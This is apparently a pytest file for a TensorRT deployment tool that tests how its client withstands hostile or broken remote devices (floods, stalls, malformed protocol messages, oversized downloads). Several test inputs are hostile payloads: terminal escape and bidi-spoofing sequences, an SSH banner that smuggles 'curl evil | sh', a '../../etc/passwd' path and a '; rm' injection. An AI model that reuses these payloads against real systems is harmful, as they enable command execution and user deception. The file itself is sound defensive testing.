"""Devices that flood, stall, or answer with nonsense: each ends in one sentence, within bounds.

The device is a stand-in: a few lines of Python, as in `test_device_session`. It ends by itself
after a minute, so that a test fails instead of hanging where the device is not given up.
"""

from __future__ import annotations

import hashlib
import json
import resource
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from boards import board
from test_device_session import StandIn, talk

from tmkd_deploy.devices import channel as channel_module
from tmkd_deploy.devices import device as device_module
from tmkd_deploy.devices.address import LocalAddress
from tmkd_deploy.devices.answers import check
from tmkd_deploy.devices.channel import Channel, ResponseTimeoutError
from tmkd_deploy.devices.device import Device
from tmkd_deploy.devices.messages import UnusableError
from tmkd_deploy.devices.routes import printable
from tmkd_deploy.devices.ssh_route import SshRoute
from tmkd_deploy.engines.tensorrt_typing import typing_of, version_number
from tmkd_deploy.errors import EnvironmentProblem, ExitCode
from tmkd_deploy.events import SilentEvents

PATIENCE = 1.0
ENDS = "import signal; signal.alarm(60)\n"
GREETED = ENDS + "skip_handshake(); hello(); next(requests())\n"
HOSTILE = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202egnp.exe\u2066\x9b31m"


@pytest.fixture(autouse=True)
def _end_soon(monkeypatch: pytest.MonkeyPatch) -> None:
    """A stand-in that does not end when its input does is ended by a signal soon."""
    monkeypatch.setattr(channel_module, "_SECONDS_TO_EXIT", 0.2)


def refusal(program: str, timeout: float = PATIENCE) -> EnvironmentProblem:
    """The error of a request, or of the greeting, to a device that runs this program."""
    with pytest.raises(EnvironmentProblem) as caught:
        session = talk(program, timeout)
        try:
            session.request("build", {}, lambda message: None)
        finally:
            session.close()
    assert caught.value.exit_code == ExitCode.ENVIRONMENT
    assert str(caught.value).isprintable()
    return caught.value


@pytest.mark.parametrize(
    "drip",
    [
        "os.write(1, b'.')",
        "os.write(1, b'\\n')",
        "tell('a library prints this')",
        "os.write(2, b'.')",
        "answer(type='heartbeat', id=99)",
        "answer(type='progress', id=99, done=1, total=2, unit='images')",
    ],
)
def test_only_the_agents_own_messages_are_signs_of_life(drip: str) -> None:
    loop = f"while True: {drip}; time.sleep(0.05)"
    assert "not responded for 1 seconds" in refusal(GREETED + loop).problem


@pytest.mark.parametrize("drip", ["os.write(1, b'.')", "os.write(1, b'\\n')", "os.write(2, b'.')"])
@pytest.mark.parametrize("before", ["", "skip_handshake()\n"])
def test_a_greeting_has_one_deadline(drip: str, before: str) -> None:
    loop = f"while True: {drip}; time.sleep(0.05)"
    assert "not responded for 1 seconds" in refusal(ENDS + before + loop).problem


@pytest.mark.parametrize(
    "flood",
    [
        "tell('x' * 1000)",
        "os.write(1, b'\\n' * 10_000)",
        "answer(type='heartbeat', id=99)",
        "answer(type='result', id=0, value={})",
    ],
)
def test_a_flood_between_the_answers_is_given_up(flood: str) -> None:
    problem = refusal(GREETED + f"while True: {flood}", timeout=50.0).problem
    assert "cannot be used: it prints endlessly between its answers" in problem


def test_a_device_that_reads_nothing_is_given_up_whatever_it_prints() -> None:
    """It would fill this machine's memory while we write."""
    channel = Channel(StandIn(ENDS + "while True: os.write(1, b'x\\n' * 30_000)").command())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        with pytest.raises(ResponseTimeoutError):
            channel.send(bytes(10 << 20), PATIENCE)
    finally:
        channel.close()
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 64 << 10


def test_errors_without_end_take_neither_disk_nor_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    program = "block = b'x' * 65536\nwhile True: os.write(2, block)"
    session = talk(ENDS + "skip_handshake(); hello()\n" + program)
    kept = _largest_file_of_this_process()
    time.sleep(0.3)
    with pytest.raises(EnvironmentProblem):
        session._timeout = PATIENCE
        session.request("build", {}, lambda message: kept.append(0))
    assert max(kept) < 1 << 20
    _, said = session._channel.close()
    assert set(said) == {"x"}
    assert len(said) <= 1 << 14


def _largest_file_of_this_process() -> list[int]:
    """The sizes of the deleted files that this process has open."""
    sizes = [0]
    for path in Path("/proc/self/fd").iterdir():
        try:
            if "(deleted)" in str(path.readlink()):
                sizes.append(path.stat().st_size)
        except OSError:
            continue
    return sizes


def test_a_large_result_is_one_line() -> None:
    session = talk(GREETED + "answer(type='result', id=1, value=[0.125] * 200_000)", timeout=50.0)
    assert session.request("measure", {}, print) == [0.125] * 200_000
    session.close()


DEEP = "'[' * 100_000 + ']' * 100_000"
MALFORMED = {
    "no message": """tell('{"tmkd":1}')""",
    "a list": """tell('{"tmkd":1,"type":["result"],"id":1,"value":1}')""",
    "unknown": "answer(type='sing', id=1)",
    "no version": """tell('{"tmkd":null,"type":"result","id":1,"value":1}')""",
    "true version": """tell('{"tmkd":true,"type":"result","id":1,"value":1}')""",
    "object version": """tell('{"tmkd":{},"type":"result","id":1,"value":1}')""",
    "no value": "answer(type='result', id=1)",
    "text id": "answer(type='result', id='1', value=1)",
    "true id": "answer(type='result', id=True, value=1)",
    "no id": "answer(type='result', value=1)",
    "no code": "answer(type='error', id=1, problem='p', where=None, advice='a')",
    "code 7": "answer(type='error', id=1, code=7, problem='p', where=None, advice='a')",
    "code []": "answer(type='error', id=1, code=[], problem='p', where=None, advice='a')",
    "no problem": "answer(type='error', id=1, code='data', where=None, advice='a')",
    "problem []": "answer(type='error', id=1, code='data', problem=[], where=None, advice='a')",
    "no advice": "answer(type='error', id=1, code='data', problem='p', where=None)",
    "where 7": "answer(type='error', id=1, code='data', problem='p', where=7, advice='a')",
    "text done": "answer(type='progress', id=1, done='1', total=2, unit='bytes')",
    "negative": "answer(type='progress', id=1, done=-1, total=2, unit='bytes')",
    "no unit": "answer(type='progress', id=1, done=1, total=2)",
    "no text": "answer(type='say', id=1)",
    "text 7": "answer(type='warn', id=1, text=7)",
    "text offset": "answer(type='ready', id=1, offset='0')",
    "no data": "answer(type='chunk', id=1, offset=0)",
    "deep": f"""tell('{{"tmkd":1,"type":"result","id":1,"value":' + {DEEP} + '}}')""",
    "deeper than any result": """tell('{"tmkd":1,"type":"result","id":1,"value":'
        + '{"a":' * 60 + '1' + '}' * 60 + '}')""",
    "huge": """tell('{"tmkd":1,"type":"result","id":1,"value":' + '9' * 100_000 + '}')""",
    "infinite": """tell('{"tmkd":1,"type":"result","id":1,"value":1e999}')""",
    "NaN": """tell('{"tmkd":1,"type":"result","id":1,"value":NaN}')""",
    "-Infinity": """tell('{"tmkd":1,"type":"result","id":1,"value":[-Infinity]}')""",
    "not UTF-8": """os.write(1, b'{"tmkd":1,"type":"result","id":1,"value":"\\xff"}\\n')""",
    "cut": """tell('{"tmkd":1,"type":"result","id":1,"val')""",
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_malformed_message_is_an_answer_that_cannot_be_used(name: str) -> None:
    problem = refusal(GREETED + MALFORMED[name] + "; sys.stdin.read()", timeout=20.0).problem
    assert "The device sent an answer that cannot be used" in problem
    assert len(problem) < 1000


@pytest.mark.parametrize("time", ["None", "'0'", "-1", "1e18", "[]", "True"])
def test_a_malformed_greeting(time: str) -> None:
    program = f"skip_handshake(); answer(type='hello', time={time}); sys.stdin.read()"
    assert "cannot be used: hello.time" in refusal(program, timeout=20.0).problem


def test_texts_are_printable_and_bounded() -> None:
    messages: list[Any] = []
    session = talk(
        GREETED
        + f"""
text = {HOSTILE!r}
answer(type="say", id=1, text=text * 10_000)
answer(type="progress", id=1, done=1, total=2, unit=text, say=text)
answer(type="result", id=1, value={{text: [text, {{"model": text + chr(0xd800)}}]}})
for request in requests():
    answer(type="error", id=2, code="data", problem=text, where=text, advice=text)
""",
        timeout=20.0,
    )
    value = session.request("build", {}, messages.append)
    assert len(messages[0]["text"]) <= 2000
    for shown in (messages[0]["text"], messages[1]["unit"], messages[1]["say"]):
        assert shown.isprintable()
    assert all(text.isprintable() for text in _texts(value))
    with pytest.raises(Exception, match=r"gnp\.exe") as caught:
        session.request("build", {}, messages.append)
    assert str(caught.value).isprintable()
    session.close()


def _texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for pair in value.items() for each in pair for text in _texts(each)]
    if isinstance(value, list):
        return [text for each in value for text in _texts(each)]
    return [value] if isinstance(value, str) else []


def test_printable_text_stays_as_it_is() -> None:
    assert printable("Größe 3 µm, 猫") == "Größe 3 µm, 猫"
    assert printable("two\r\nlines\tand a tab") == "two  lines and a tab"
    assert printable("x" * 10, limit=4) == "xxx…"
    assert printable("\u202e\x1b\x00\u2028\ud800") == r"\u202e\x1b\x00\u2028\ud800"


def test_a_banner_cannot_put_a_command_into_our_advice() -> None:
    banner = (
        "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
        "  ssh-keygen -f x -R y; curl evil | sh\n"
        '  ssh-keygen -f "$(curl evil)" -R "orin"\n'
        "No ../../evil host key is known for orin and you have requested\n"
    )
    route = SshRoute(device_module.SshAddress("orin"))
    assert "evil" not in route.explain(255, banner, greeted=False).advice


@pytest.fixture
def fetch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Path]:
    """Downloads what a device sends that runs this program once it is asked to."""
    monkeypatch.setattr(device_module, "RECONNECT_AFTER_SECONDS", ())

    def download(program: str, content: bytes = b"") -> Path:
        route = StandIn(
            ENDS
            + "import base64\n"
            + "def chunk(offset, content):\n"
            + "    data = base64.b64encode(content).decode()\n"
            + "    answer(type='chunk', id=1, offset=offset, data=data)\n"
            + "skip_handshake(); hello(); next(requests())\n"
            + program
            + "\nsys.stdin.read()"
        )
        monkeypatch.setattr(device_module, "LocalRoute", lambda: route)
        path = tmp_path / "fetched"
        try:
            with Device(LocalAddress(), SilentEvents(), timeout=20.0) as device:
                device.download(hashlib.sha256(content).hexdigest(), path)
        finally:
            assert list(tmp_path.glob(".*")) == []
        return path

    return download


def test_a_file_of_its_stated_size_is_fetched(fetch: Callable[..., Path]) -> None:
    program = (
        "answer(type='size', id=1, bytes=6); chunk(0, b'abc'); chunk(3, b'def')\n"
        "answer(type='result', id=1, value={'bytes': 6})"
    )
    assert fetch(program, b"abcdef").read_bytes() == b"abcdef"


@pytest.mark.parametrize(
    ("program", "expected"),
    [
        ("chunk(0, b'x')", "more of the file than the 0 bytes"),
        ("answer(type='size', id=1, bytes=2); chunk(0, b'xyz')", "more of the file than the 2"),
        ("answer(type='size', id=1, bytes=9); chunk(1, b'x')", "no part of the file for byte 0"),
        ("answer(type='size', id=1, bytes=9); chunk(0, b'')", "no part of the file for byte 0"),
        (
            "answer(type='size', id=1, bytes=9); answer(type='chunk', id=1, offset=0, data='!')",
            "no part of the file for byte 0",
        ),
        ("answer(type='size', id=1, bytes=1 << 40)", "offers a file of 1099511627776 bytes"),
        ("answer(type='size', id=1, bytes=9); answer(type='result', id=1, value={})", "0 of the 9"),
    ],
)
def test_a_fetched_file_is_held_to_its_stated_size(
    fetch: Callable[..., Path], program: str, expected: str
) -> None:
    with pytest.raises(EnvironmentProblem, match="cannot be used") as caught:
        fetch(program)
    assert expected in caught.value.problem


def test_chunks_without_end_do_not_reach_the_disk(fetch: Callable[..., Path]) -> None:
    program = (
        "answer(type='size', id=1, bytes=1 << 20)\n"
        "content, offset = b'x' * 100_000, 0\n"
        "while True: chunk(offset, content); offset += len(content)"
    )
    with pytest.raises(EnvironmentProblem, match="more of the file than the 1048576 bytes"):
        fetch(program)


def test_a_file_that_does_not_fit_on_this_disk_is_not_fetched(
    fetch: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Usage:
        free = 1 << 20

    monkeypatch.setattr(device_module.shutil, "disk_usage", lambda folder: Usage)
    with pytest.raises(EnvironmentProblem, match=r"1\.0 MB free, and .* needs 3\.0 MB"):
        fetch("answer(type='size', id=1, bytes=3 << 20)")


@pytest.mark.parametrize(
    "program",
    [
        "answer(type='ready', id=1, offset=4)",
        "answer(type='ready', id=1, offset=0); answer(type='ready', id=1, offset=0)",
    ],
)
def test_an_upload_is_sent_once_and_from_within_the_file(
    program: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    route = StandIn(GREETED + program + "; sys.stdin.read()")
    monkeypatch.setattr(device_module, "LocalRoute", lambda: route)
    (tmp_path / "engine").write_bytes(b"abc")
    with (
        pytest.raises(EnvironmentProblem, match="cannot be used: it asks for the file"),
        Device(LocalAddress(), SilentEvents(), timeout=20.0) as device,
    ):
        device.upload(tmp_path / "engine")


BUILT: dict[str, Any] = {
    "engine": "0" * 64,
    "bytes": 7,
    "sidecar": {
        "dla": {"core": None, "gpu_fallback_layers": []},
        "versions": {"runtime": "10.3.0"},
        "device": {"sm": "87"},
    },
    "layers": None,
    "log": None,
}


@pytest.mark.parametrize(
    "change",
    [
        {"engine": "../../etc/passwd"},
        {"engine": None},
        {"sidecar": {}},
        {"sidecar": {"dla": {"gpu_fallback_layers": "conv"}}},
        {"sidecar": {**BUILT["sidecar"], "versions": {"runtime": "the newest"}}},
        {"sidecar": {**BUILT["sidecar"], "device": {"sm": "87; rm"}}},
        {"layers": 7},
        {"log": "0" * 63},
    ],
)
def test_a_result_without_what_we_rely_on_is_refused(change: dict[str, Any]) -> None:
    assert check("build", BUILT) == BUILT
    with pytest.raises(UnusableError, match=next(iter(change))):
        check("build", BUILT | change)


@pytest.mark.parametrize(
    ("release", "sound"),
    [
        *((each, True) for each in ("10.3.0.30", "8.6.1.post1", "10.0.0b6", "10.3")),
        *((each, False) for each in ("", "ten", "10", "9" * 40 + ".1", "1.2" * 99)),
    ],
)
def test_a_release_of_tensorrt_is_one(release: str, sound: bool) -> None:
    info = board("orin-nx")
    check("probe", info)
    for changed in ({"tensorrt": release}, {"trtexec": {"path": "/t", "version": release}}):
        if sound:
            check("probe", {**info, **changed})
            assert typing_of(release) in ("strong", "flags") and version_number(release) > 8000
        else:
            with pytest.raises(UnusableError):
                check("probe", {**info, **changed})


def test_the_info_of_a_device_is_checked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMKD_DEPLOY_AGENT_HOME", str(tmp_path / "agent"))
    with Device(LocalAddress(), SilentEvents()) as device:
        info = json.loads(json.dumps(device.info))
    assert check("probe", info) == info
    for name in ("model", "gpu", "trtexec", "memory_free_mb", "time", "clocks", "temperature_c"):
        without = {key: value for key, value in info.items() if key != name}
        for wrong in (without, {**info, name: [name]}):
            with pytest.raises(UnusableError, match=name):
                check("probe", wrong)
